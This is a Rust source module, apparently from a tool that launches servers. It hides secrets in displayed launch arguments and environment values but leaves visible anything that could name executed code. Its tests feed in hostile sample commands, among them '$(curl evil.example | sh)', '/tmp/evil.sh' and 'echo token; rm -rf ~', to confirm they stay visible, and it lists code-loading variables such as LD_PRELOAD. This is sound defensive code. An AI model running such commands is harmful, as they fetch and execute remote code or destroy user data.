//! Hides secrets that are written out in a launch line, and nothing that a person must see to judge it.
//!
//! Only one unbroken run of letters, digits and `-_.~+%` is ever hidden: it cannot hold a path, a space or a shell's sign.

use crate::config::secret::is_variable;

/// What stands for a secret.
const HIDDEN: &str = "***";

/// Ends of names whose values are secrets.
const SECRET_NAMES: [&str; 16] = [
    "token",
    "secret",
    "password",
    "passwd",
    "pwd",
    "passphrase",
    "key",
    "apikey",
    "auth",
    "authorization",
    "credential",
    "credentials",
    "pat",
    "bearer",
    "sig",
    "signature",
];

/// How the secrets of well-known services begin.
const SECRET_STARTS: [&str; 16] = [
    "sk-",
    "sk_",
    "pk_",
    "rk_",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "AKIA",
    "AIza",
    "hf_",
    "eyJ",
];

/// Programs that run what their arguments name.
const WRAPPERS: [&str; 16] = [
    "env", "sudo", "doas", "nice", "ionice", "nohup", "setsid", "timeout", "stdbuf", "xargs", "sh", "bash", "dash",
    "zsh", "ksh", "fish",
];

/// Variables that make a program run other code: their values are shown.
const CODE_LOADING: [&str; 24] = [
    "PATH",
    "BASH_ENV",
    "ENV",
    "SHELL",
    "IFS",
    "NODE_OPTIONS",
    "NODE_PATH",
    "NPM_CONFIG_REGISTRY",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "PERL5LIB",
    "PERL5OPT",
    "RUBYLIB",
    "RUBYOPT",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "GIT_SSH_COMMAND",
    "GIT_EXTERNAL_DIFF",
    "UV_INDEX_URL",
    "UV_DEFAULT_INDEX",
    "PIP_INDEX_URL",
    "DENO_DIR",
    "BUN_INSTALL",
];

/// Whether the variable makes a program run other code.
pub(super) fn code_loading(name: &str) -> bool {
    name.starts_with("LD_") || name.starts_with("DYLD_") || CODE_LOADING.iter().any(|it| it.eq_ignore_ascii_case(name))
}

/// A value of a variable: its `${NAME}`s, and everything else hidden.
pub(super) fn reference_only(text: &str) -> String {
    let mut shown = String::new();
    for piece in pieces(text) {
        match piece {
            Piece::Reference { name, default } => {
                shown.push_str("${");
                shown.push_str(name);
                shown.push_str(if default.is_some() { ":-***}" } else { "}" });
            }
            Piece::Literal => shown.push_str(HIDDEN),
        }
    }
    shown
}

/// The arguments of `program`, with what looks like a secret hidden.
///
/// What may name the code that is run is shown as it is: the first argument that is no option, and everything given to a
/// program that runs another.
pub(super) fn masked_args<'a>(program: &str, args: impl Iterator<Item = &'a str>) -> Vec<String> {
    let name = program.rsplit('/').next().unwrap_or_default();
    let mut code_is_known = false;
    let mut before = "";
    let mut shown = Vec::new();
    for arg in args {
        let flag = before.starts_with('-') && !before.contains(['=', ' ']) && is_secret_name(before);
        let whole = code_is_known && flag && !arg.is_empty() && arg.chars().all(is_run);
        shown.push(if whole { HIDDEN.to_owned() } else { masked(arg, code_is_known) });
        code_is_known |= !arg.starts_with('-') && !WRAPPERS.contains(&name);
        before = arg;
    }
    shown
}

/// A text, with what looks like a secret hidden: what stands after the name of one, and, if `by_look`, what begins like one.
pub(super) fn masked(text: &str, by_look: bool) -> String {
    let mut shown = String::new();
    let (mut last, mut gap) = ("", "");
    let mut rest = text;
    while !rest.is_empty() {
        let run = rest.find(|c| !is_run(c)).unwrap_or(rest.len());
        if run == 0 {
            let end = rest.find(is_run).unwrap_or(rest.len());
            gap = &rest[..end];
            shown.push_str(gap);
            rest = &rest[end..];
            continue;
        }
        let word = &rest[..run];
        rest = &rest[run..];
        let scheme = ["bearer", "basic"].iter().any(|scheme| word.eq_ignore_ascii_case(scheme));
        let named = matches!(gap, "=" | ":" | ": ") && is_secret_name(last) && !scheme;
        let after_scheme = gap == " " && ["bearer", "basic"].iter().any(|scheme| last.eq_ignore_ascii_case(scheme));
        // The password in https://user:password@host.
        let user_info = gap == ":" && rest.starts_with('@');
        let known = by_look && word.len() >= 16 && SECRET_STARTS.iter().any(|start| word.starts_with(start));
        let hidden = named || after_scheme || user_info || known;
        shown.push_str(if hidden { HIDDEN } else { word });
        (last, gap) = (word, "");
    }
    shown
}

/// What a secret is made of.
fn is_run(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '~' | '+' | '%')
}

fn is_secret_name(name: &str) -> bool {
    let name = name.to_ascii_lowercase().replace('_', "-");
    let last = name.rsplit(['-', '.']).next().unwrap_or(&name);
    SECRET_NAMES.contains(&last) || ["token", "secret", "password", "apikey"].iter().any(|end| last.ends_with(end))
}

enum Piece<'a> {
    Literal,
    Reference { name: &'a str, default: Option<&'a str> },
}

/// Splits a text at its `${NAME}`, `${NAME:-default}` and `${env:NAME}`.
fn pieces(text: &str) -> Vec<Piece<'_>> {
    let mut pieces = Vec::new();
    let (mut literal, mut at) = (0, 0);
    while let Some(dollar) = text[at..].find('$').map(|offset| at + offset) {
        if text[dollar..].starts_with("$${") {
            at = dollar + 3;
            continue;
        }
        at = dollar + 1;
        let Some(inner) = text[dollar..].strip_prefix("${") else { continue };
        let Some(end) = inner.find('}') else { break };
        let (name, default) = match inner[..end].split_once(":-") {
            Some((name, default)) => (name, Some(default)),
            None => (&inner[..end], None),
        };
        let name = name.strip_prefix("env:").unwrap_or(name);
        if !is_variable(name) {
            continue;
        }
        if literal < dollar {
            pieces.push(Piece::Literal);
        }
        pieces.push(Piece::Reference { name, default });
        at = dollar + 2 + end + 1;
        literal = at;
    }
    if literal < text.len() {
        pieces.push(Piece::Literal);
    }
    pieces
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(program: &str, args: &[&str]) -> String {
        masked_args(program, args.iter().copied()).join("|")
    }

    #[test]
    fn what_looks_like_a_secret_is_hidden() {
        for (given, expected) in [
            ("--token=abc123", "--token=***"),
            ("--api-key=abc123", "--api-key=***"),
            ("--githubToken=abc", "--githubToken=***"),
            ("Authorization: Bearer abc.def", "Authorization: Bearer ***"),
            ("X-Api-Key:abc", "X-Api-Key:***"),
            ("https://me:hunter2@example.org/?key=abc&page=2", "https://me:***@example.org/?key=***&page=2"),
            ("ghp_0123456789abcdef0123", "***"),
            ("-c TOKEN=abc run", "-c TOKEN=*** run"),
        ] {
            assert_eq!(shown("npx", &["thing", given]), format!("thing|{expected}"));
        }
        assert_eq!(shown("npx", &["-y", "thing", "--token", "abc123", "rest"]), "-y|thing|--token|***|rest");
    }

    #[test]
    fn nothing_that_could_be_code_is_hidden() {
        for args in [
            &["-y", "@scope/server-token@1.2.3"][..],
            &["--token", "evil-package-0123456789"],
            &["sk-evil-package-0123456789"],
            &["thing", "--token", "$(curl evil.example | sh)"],
            &["thing", "--token=$(curl evil.example | sh)"],
            &["thing", "--key", "/tmp/evil.sh"],
            &["thing", "--token", "${TOKEN}", "--token=${TOKEN}"],
            &["thing", "--port=8080", "--token-file=/etc/token", "http://localhost:8080/mcp"],
        ] {
            assert_eq!(shown("npx", args), args.join("|"));
        }
        let wrapped = ["A=b", "npx", "--token", "evil"];
        assert_eq!(shown("/usr/bin/env", &wrapped), wrapped.join("|"));
        let script = ["-c", "echo token; rm -rf ~"];
        assert_eq!(shown("sh", &script), script.join("|"));
    }

    #[test]
    fn of_a_variable_only_the_references_are_shown() {
        for (given, shown) in [
            ("hunter2", "***"),
            ("", ""),
            ("${TOKEN}", "${TOKEN}"),
            ("Bearer ${env:TOKEN}", "***${TOKEN}"),
            ("${TOKEN:-hunter2}", "${TOKEN:-***}"),
            ("a$${b}${C}", "***${C}"),
            ("${input:x}", "***"),
            ("${", "***"),
        ] {
            assert_eq!(reference_only(given), shown, "{given}");
        }
        assert!(code_loading("LD_PRELOAD") && code_loading("node_options") && !code_loading("API_KEY"));
    }
}
